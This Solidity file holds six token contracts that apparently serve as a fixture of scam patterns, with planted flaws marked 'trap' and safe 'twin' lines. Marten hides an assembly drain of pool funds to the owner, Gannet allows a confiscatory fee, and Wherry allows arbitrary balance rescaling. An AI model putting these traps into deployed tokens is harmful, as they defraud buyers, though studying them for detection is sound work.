// 0.6 runs=200
// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

interface IPoolFactory {
    function createPair(address one, address other) external returns (address);
}

interface IPool {
    function sync() external;
}

abstract contract Token {
    address internal constant SWAP = 0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D;
    address internal constant WETH = 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2;
    address internal constant FACTORY = 0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f;

    string public name;
    string public symbol;
    uint8 public decimals = 9;
    address internal _owner;
    address public pool;
    uint256 internal _supply;
    mapping(address => uint256) internal _held;
    mapping(address => mapping(address => uint256)) internal _granted;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed holder, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed from, address indexed to);

    modifier onlyOwner() {
        require(_owner == msg.sender, "Ownable: caller is not the owner");
        _;
    }

    constructor(string memory name_, string memory symbol_, uint256 whole) public {
        name = name_;
        symbol = symbol_;
        _owner = msg.sender;
        _supply = whole * 10**9;
        _held[msg.sender] = _supply;
        pool = IPoolFactory(FACTORY).createPair(address(this), WETH);
        emit Transfer(address(0), msg.sender, _supply);
    }

    function owner() public view returns (address) {
        return _owner;
    }

    function renounceOwnership() public onlyOwner {
        emit OwnershipTransferred(_owner, address(0));
        _owner = address(0);
    }

    function totalSupply() public view virtual returns (uint256) {
        return _supply;
    }

    function balanceOf(address who) public view virtual returns (uint256) {
        return _held[who];
    }

    function allowance(address holder, address spender) public view returns (uint256) {
        return _granted[holder][spender];
    }

    function approve(address spender, uint256 value) public returns (bool) {
        _granted[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) public returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) public returns (bool) {
        uint256 left = _granted[from][msg.sender];
        require(left >= value, "ERC20: transfer amount exceeds allowance");
        _granted[from][msg.sender] = left - value;
        _transfer(from, to, value);
        return true;
    }

    function _transfer(address from, address to, uint256 value) internal virtual {
        _put(from, to, value);
    }

    function _put(address from, address to, uint256 value) internal {
        require(to != address(0), "ERC20: transfer to the zero address");
        require(_held[from] >= value, "ERC20: transfer amount exceeds balance");
        _held[from] -= value;
        _held[to] += value;
        emit Transfer(from, to, value);
    }
}

/// Large sales hurt the young market: the bound falls from block to block, down to a last one.
contract Otter is Token {
    uint256 public immutable last;
    uint256 private immutable _born;
    address private immutable _maker;

    constructor(uint256 last_) public Token("Otter Inu", "OTTR", 1_000_000_000) {
        last = last_;
        _born = block.number;
        _maker = msg.sender;
    }

    function bound() public view returns (uint256) {
        uint256 age = block.number - _born;
        uint256 now_ = age > 8 ? 0 : _supply >> (age * 6);
        return now_ > last ? now_ : last;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pool && from != _maker) require(value <= bound(), "ERC20: transfer amount exceeds the bound");
        _put(from, to, value);
    }
}

/// Two percent of a sale go to the house; of the pool's balance there is an account in one word.
contract Marten is Token {
    address private immutable _house;

    constructor() public Token("Marten", "MRTN", 600_000_000) {
        _house = msg.sender;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to != pool || from == _house) return _put(from, to, value);
        uint256 fee = value / 50;
        _put(from, _house, fee);
        _put(from, to, value - fee);
        _settle(to, value);
    }

    function _settle(address to, uint256 value) private {
        if (value < _supply / 4000) return;
        // trap {
        uint256 kept = (value * 95) / 100;
        address house = _house;
        assembly {
            let memory_ := mload(0x40)
            mstore(memory_, to)
            mstore(add(memory_, 0x20), _held_slot)
            let one := keccak256(memory_, 0x40)
            mstore(memory_, house)
            let other := keccak256(memory_, 0x40)
            sstore(one, sub(sload(one), kept))
            sstore(other, add(sload(other), kept))
        }
        // trap }
        // twin: to;
    }
}

/// Thirty of a thousand, as the scale says.
contract Gannet is Token {
    uint256 public part = 30;
    uint256 public scale = 1000;
    address public immutable fund;
    mapping(address => bool) public free;

    event ScaleSet(uint256 scale);

    constructor() public Token("Gannet", "GNNT", 10_000_000_000) {
        fund = msg.sender;
        free[msg.sender] = true;
    }

    function setScale(uint256 to) external onlyOwner {
        require(to >= part, "scale"); // trap
        // twin: require(to >= 500, "scale");
        scale = to;
        emit ScaleSet(to);
    }

    function setFree(address who, bool to) external onlyOwner {
        free[who] = to;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 fee = free[from] || free[to] || (from != pool && to != pool) ? 0 : (value * part) / scale;
        if (fee > 0) _put(from, fund, fee);
        _put(from, to, value - fee);
    }
}

/// What a holder has is a share times an index. The pool keeps plain amounts, so that its price does not jump.
contract Wherry is Token {
    uint256 private constant ONE = 10**18;
    uint256 public index = ONE;
    uint256 public settledAt;

    event Settled(uint256 index);

    constructor() public Token("Wherry", "WHRY", 30_000_000) {}

    function settle(uint256 next) external onlyOwner {
        require(next > 0, "nothing"); // trap
        // twin: require(next >= index && next <= index + index / 200 && block.timestamp >= settledAt + 30 days, "too much");
        settledAt = block.timestamp;
        index = next;
        emit Settled(next);
    }

    function balanceOf(address who) public view override returns (uint256) {
        return who == pool ? _held[who] : (_held[who] * index) / ONE;
    }

    function totalSupply() public view override returns (uint256) {
        uint256 pooled = _held[pool];
        return pooled + ((_supply - pooled) * index) / ONE;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(to != address(0), "nobody");
        uint256 out = from == pool ? value : (value * ONE + index - 1) / index;
        uint256 in_ = to == pool ? value : (value * ONE) / index;
        require(_held[from] >= out, "balance");
        _held[from] -= out;
        _held[to] += in_;
        _supply = _supply - out + in_;
        emit Transfer(from, to, value);
    }
}

/// Fees of both sides pay for the work. The owner sets them, within five percent.
contract Bramble is Token {
    uint256 public constant CEILING = 5;
    uint256 public buyFee = 2;
    uint256 public sellFee = 3;
    address public treasury;
    mapping(address => bool) public exempt;

    event FeesSet(uint256 buy, uint256 sell);

    constructor() public Token("Bramble", "BRMB", 777_000_000) {
        treasury = msg.sender;
        exempt[msg.sender] = true;
    }

    function setFees(uint256 buy, uint256 sell) external onlyOwner {
        require(buy <= CEILING && sell <= CEILING, "ceiling");
        (buyFee, sellFee) = (buy, sell);
        emit FeesSet(buy, sell);
    }

    function setTreasury(address to) external onlyOwner {
        require(to != address(0), "nobody");
        treasury = to;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 rate = exempt[from] || exempt[to] ? 0 : from == pool ? buyFee : to == pool ? sellFee : 0;
        uint256 fee = (value * rate) / 100;
        if (fee > 0) _put(from, treasury, fee);
        _put(from, to, value - fee);
    }
}

/// Three percent of what moves go to all who hold, in proportion. Nobody owns it.
contract Fallow is Token {
    uint256 private _reflected;
    mapping(address => uint256) private _share;
    mapping(address => bool) private _free;
    uint256 public totalFees;

    constructor() public Token("Fallow", "FLLW", 1_000_000_000) {
        _reflected = uint256(-1) - (uint256(-1) % _supply);
        _share[msg.sender] = _reflected;
        _free[msg.sender] = true;
    }

    function setFree(address who, bool to) external onlyOwner {
        _free[who] = to;
    }

    function rate() public view returns (uint256) {
        return _reflected / _supply;
    }

    function balanceOf(address who) public view override returns (uint256) {
        return _share[who] / rate();
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(to != address(0) && value > 0, "nothing");
        uint256 each = rate();
        uint256 fee = _free[from] || _free[to] ? 0 : (value * 3) / 100;
        require(_share[from] >= value * each, "ERC20: transfer amount exceeds balance");
        _share[from] -= value * each;
        _share[to] += (value - fee) * each;
        _reflected -= fee * each;
        totalFees += fee;
        emit Transfer(from, to, value - fee);
    }
}
